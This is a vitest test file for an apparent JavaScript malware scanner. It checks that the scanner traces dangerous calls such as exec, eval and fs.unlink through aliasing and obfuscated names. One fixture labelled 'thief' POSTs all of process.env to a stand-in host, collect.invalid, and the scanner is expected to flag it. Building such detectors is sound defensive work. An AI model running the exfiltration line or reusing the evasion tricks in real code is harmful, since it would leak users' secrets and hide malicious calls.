import { describe, expect, test } from 'vitest';
import { rules } from '../rules/index.js';
import { parse } from '../src/parse/parse.js';
import { readMemory } from '../src/read/memory.js';
import { makeEvaluator } from '../src/resolve/evaluate.js';
import { makeUnit } from '../src/resolve/unit.js';
import { factsOf } from '../src/run/context.js';
import { analyse } from '../src/run/package.js';

/** Names of the calls in a text: those that names reach, or all. */
function names(text: string, everyCall = false): readonly string[] {
  const unit = makeUnit(parse({ path: 'index.js', text }));
  if (!unit) throw new Error('does not parse');
  return factsOf(unit, makeEvaluator({ size: text.length }), everyCall).calls.map(({ name }) => name);
}

test.each([
  ['a module', `require('child_process').exec(x)`, 'child_process.exec'],
  ['an import', `import { exec as e } from 'node:child_process'; e(x)`, 'child_process.exec'],
  ['a global', `fetch(x)`, 'fetch'],
  ['a global of the global object', `globalThis['ev' + 'al'](x)`, 'eval'],
  ['a variable', `const a = require('fs'); let b; b = a; const { writeFile: c } = b; c(x)`, 'fs.writeFile'],
  ['a property', `const o = {}; o.run = require('child_process').exec; o.run(x)`, 'child_process.exec'],
  ['an object', `const o = { run: eval }; o.run(x)`, 'eval'],
  ['a parameter', `function f(cp) { cp.exec(x) } f(require('child_process'))`, 'child_process.exec'],
  ['a parameter of a method', `class A { m(cp) { cp.exec(x) } } a.m(require('child_process'))`, 'child_process.exec'],
  ['what a function gives', `const get = () => require('fs'); get().unlink(x)`, 'fs.unlink'],
  [
    'what an interop helper gives',
    `const w = m => m && m.__esModule ? m : { default: m }; w(require('axios')).default.post(x)`,
    'axios.post',
  ],
  ['a choice', `(x ? require('http') : require('https')).get(y)`, 'https.get'],
  ['a request', `const r = require('https').request(x); r.write(y)`, 'https.request().write'],
  ['a callback of a request', `require('https').get(x, res => res.pipe(y))`, 'https.get().pipe'],
  [
    'a hash',
    `const { createHash: h } = require('crypto'); h('md5').update(x).digest('hex')`,
    'crypto.createHash().update().digest',
  ],
  ['a constructor of a constructor', `const f = (() => {}).constructor; f(x)`, 'Function'],
  ['a list', `for (const run of [eval, x]) run(y)`, 'eval'],
  ['a promise', `new Promise(r => r(require('fs'))).then(fs => fs.unlink(x))`, 'fs.unlink'],
  ['a promise of an import', `import('fs').then(({ unlink }) => unlink(x))`, 'fs.unlink'],
  ['what is bound', `const e = require('child_process').exec.bind(null); e(x)`, 'child_process.exec'],
  [
    'what is promised',
    `const e = require('util').promisify(require('child_process').exec); e(x)`,
    'child_process.exec',
  ],
  ['all values of an object', `const o = { a: eval }; Object.values(o)[0](x)`, 'eval'],
  [
    'a key of a function',
    `const k = ['con', 'structor'].join(''); const f = () => {}; const g = f[k]; g(x)`,
    'Function',
  ],
  ['a key in a list', `const t = ['constructor']; function f() {} f[t[0]](x)`, 'Function'],
  ['a constructor taken apart', `const { constructor: make } = () => {}; make(x)`, 'Function'],
])('a name reaches a call by way of %s', (_, text, name) => {
  expect(names(text, true)).toContain(name);
  expect(names(text)).toContain(name);
});

test('what no name reaches is not asked for one', () => {
  const text = `const pad = (s, n) => s.padStart(n).trim(); module.exports = list => list.map(s => pad(s, 2)).join('');`;
  expect(names(text)).toEqual([]);
});

test.each([6, 12, 30])('a name is followed through %i functions', count => {
  const steps = Array.from({ length: count }, (_, at) => `function f${at}(x) { return f${at + 1}(x); }`).join('\n');
  expect(names(`${steps}\nfunction f${count}(x) { x.exec(y); }\nf0(require('child_process'));`)).toContain(
    'child_process.exec',
  );
});

test('a helper of a library that a name gets into does not carry it everywhere', () => {
  const steps = Array.from({ length: 600 }, (_, at) => `function f${at}(x) { return f${at + 1}(x) || x; }`).join('\n');
  const text = `${steps}\nfunction f600(x) { return x; }\nf0(require('fs'));\nf500(1).exec();`;
  expect(names(text)).not.toContain('fs.exec');
});

describe('a thousand files that load one another take no more stack than two', () => {
  const thief = `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) });`;

  test.each([
    ['a chain', (at: number) => `module.exports = require('./${at + 1}');`, `module.exports = 1;`],
    ['a ring', (at: number) => `module.exports = require('./${at + 1}');`, `module.exports = require('./0');`],
    ['a chain of modules', (at: number) => `export * from './${at + 1}.js';`, `export const x = 1;`],
    ['a ring of modules', (at: number) => `export * from './${at + 1}.js';`, `export { x } from './0.js';`],
  ])('%s', async (_, file, last) => {
    const entries = Array.from({ length: 1_500 }, (_, at) => [`${at}.js`, file(at)] as const);
    const files = { ...Object.fromEntries(entries), '1500.js': last, 'index.js': `import './0.js'; ${thief}` };
    const { findings, coverage } = analyse(await readMemory({ files }), rules);
    expect(coverage.skipped.filter(({ path }) => path !== 'package.json')).toEqual([]);
    expect(findings.map(({ rule }) => rule)).toContain('sends-environment');
  });
});
